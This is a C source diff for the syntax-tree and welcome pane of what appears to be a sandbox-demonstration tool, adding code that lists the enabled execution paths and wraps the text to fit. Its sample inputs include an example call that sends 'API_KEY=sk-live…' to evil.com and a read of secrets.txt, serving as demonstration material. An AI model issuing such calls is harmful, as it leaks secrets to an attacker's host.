@@ -2,7 +2,8 @@
  * pane_ast.c -- the shared syntax-tree pane: the last input echoed with
  * the offending node's span marked under it, then the tree as Python's
  * ast module names it, the offending node highlighted (and marked '>' so
- * it shows without colour).  Before the first input: the welcome.
+ * it shows without colour).  Before the first input: the welcome, which
+ * names every path that is on.
  */
 #include "config.h"
 
@@ -10,6 +11,7 @@
 #include <string.h>
 
 #include "record.h"
+#include "session.h"
 #include "uipriv.h"
 
 static const char *const welcome[] = {
@@ -21,10 +23,96 @@ static const char *const welcome[] = {
 	"  http_get({'url': 'https://evil.com/x', 'body': 'API_KEY=sk-live-9f3a2b'})",
 	"  open('secrets.txt').read()",
 	"  write_file({'path': 'out.txt', 'text': 'ok'})",
-	"Unsafe: no boundary (damage simulated).  Sandbox: the essay's toy",
-	"boundary.  :play scenarios/essay.scn steps through the essay; F1 help.",
 	NULL
 };
+
+/* The welcome's closing text: every enabled path in a phrase, then how
+ * to go on. */
+static void
+paths_text(const struct ui *u, char *buf, size_t size)
+{
+	unsigned mask = session_paths(u->s);
+	const char *engine = session_engine(u->s, PATH_UNSAFE);
+	size_t len = 0;
+	int p, n;
+
+	buf[0] = '\0';
+	for (p = 0; p < PATH__COUNT; p++) {
+		const char *what;
+		if (!(mask & PATH_BIT(p)))
+			continue;
+		switch (p) {
+		case PATH_UNSAFE:
+			what = engine != NULL && strcmp(engine, "cpython") == 0 ?
+			    "Unsafe: no boundary (a throwaway world)." :
+			    "Unsafe: no boundary (damage simulated).";
+			break;
+		case PATH_SANDBOX:
+			what = "Sandbox: the essay's toy boundary.";
+			break;
+		case PATH_JAIL:
+			what = session_jail(u->s) == JAIL_BOUNDARY_GVISOR ?
+			    "Jail: gVisor's user-space kernel." :
+			    "Jail: kernel-enforced.";
+			break;
+		default:
+			what = "jail:gvisor: gVisor's user-space kernel.";
+			break;
+		}
+		n = snprintf(buf + len, size - len, "%s%s", len ? "  " : "",
+		    what);
+		if (n < 0 || (size_t)n >= size - len)
+			return;
+		len += (size_t)n;
+	}
+	snprintf(buf + len, size - len, "%s:play scenarios/essay.scn plays "
+	    "the essay; F1 help.", len ? "  " : "");
+}
+
+/* Rows of s broken at spaces to width; draws them from row when r is
+ * not NULL. */
+static int
+wrap(const struct ui *u, const char *s, int width, const struct rect *r,
+    int row)
+{
+	size_t len = strlen(s), take, k;
+	int rows = 0;
+
+	while (len > 0 && width > 0) {
+		take = draw_fit(s, len, width);
+		if (take == 0)
+			take = 1;
+		if (take < len && s[take] != ' ') {
+			for (k = take; k > 0 && s[k - 1] != ' '; k--)
+				;
+			if (k > 0)
+				take = k;
+		}
+		if (r != NULL)
+			draw_textn(*r, row + rows, 0, A_NORMAL, s, take);
+		rows++;
+		s += take;
+		len -= take;
+		while (len > 0 && *s == ' ') {
+			s++;
+			len--;
+		}
+	}
+	(void)u;
+	return rows;
+}
+
+int
+pane_ast_welcome_rows(const struct ui *u, int width)
+{
+	char buf[512];
+	int n = 0;
+
+	while (welcome[n] != NULL)
+		n++;
+	paths_text(u, buf, sizeof buf);
+	return n + wrap(u, buf, width, NULL, 0) + (u->missing != NULL);
+}
 
 /* The input line holding byte off, and off's column within it. */
 static void
@@ -56,9 +144,13 @@ draw(struct ui *u, struct rect r, enum path_id unused)
 	draw_box(r, draw_attr(u, UC_DIM), m->input ? " AST " : " welcome ");
 	in = (struct rect){ r.y + 1, r.x + 1, r.h - 2, r.w - 2 };
 	if (m->input == NULL) {
+		char buf[512];
+
 		for (i = 0; welcome[i] != NULL && row < in.h; i++)
 			draw_text(in, row++, 0, welcome[i][0] == ' ' ?
 			    draw_attr(u, UC_OK) : (int)A_NORMAL, welcome[i]);
+		paths_text(u, buf, sizeof buf);
+		row += wrap(u, buf, in.w, &in, row);
 		if (u->missing != NULL && row < in.h) {
 			char line[256];
 
